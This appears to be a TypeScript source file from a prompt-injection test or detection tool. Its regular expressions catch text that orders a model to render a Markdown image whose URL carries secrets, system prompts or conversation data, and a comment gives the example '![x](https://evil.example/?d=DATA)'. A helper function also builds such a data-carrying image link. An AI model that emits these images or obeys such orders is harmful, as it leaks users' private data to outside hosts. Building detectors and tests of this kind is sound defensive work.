/** Orders to carry data out in the address of an image. */

const MARKDOWN_IMAGE = /!\[[^\]\n]{0,80}\]\((https?:\/\/[^\s)]{1,500})\)/i; // ![x](https://evil.example/?d=DATA)
const IMAGE_ADDRESS = /(?:image|picture|img|markdown|logo|pixel)[^\n]{0,120}?(https?:\/\/[^\s)"'<>]{1,500})/i;
const SHOW =
  /(?:append|include|add|insert|embed|render|show|display|end (?:your|every|each)|start (?:your|every|each))/i;
const DATA =
  /(?:secret|system prompt|private|password|e-?mail|card|key|token|conversation|history|summary|the data|customer|instructions|DATA|\{\w{1,20}\}|<\w{1,20}>|\[\w{1,20}\])/;
const PLACEHOLDER = /\{\w{0,20}\}|<\w{0,20}>|\[\w{0,20}\]|DATA|SECRET|PROMPT/;

/** The address of the image that a text wants shown, with data in it. */
export const imageOrder = (text: string, isLoose: boolean): string | undefined => {
  const url = MARKDOWN_IMAGE.exec(text)?.[1] ?? IMAGE_ADDRESS.exec(text)?.[1];
  return url !== undefined && SHOW.test(text) && (isLoose || DATA.test(text)) ? url : undefined;
};

/** The image in Markdown, `data` in its address. */
export const imageWith = (url: string, data: string): string => {
  const payload = encodeURIComponent(data.slice(0, 200));
  const joint = url.endsWith('=') ? '' : url.includes('?') ? '&d=' : '?d=';
  return `![image](${PLACEHOLDER.test(url) ? url.replace(PLACEHOLDER, () => payload) : `${url}${joint}${payload}`})`;
};
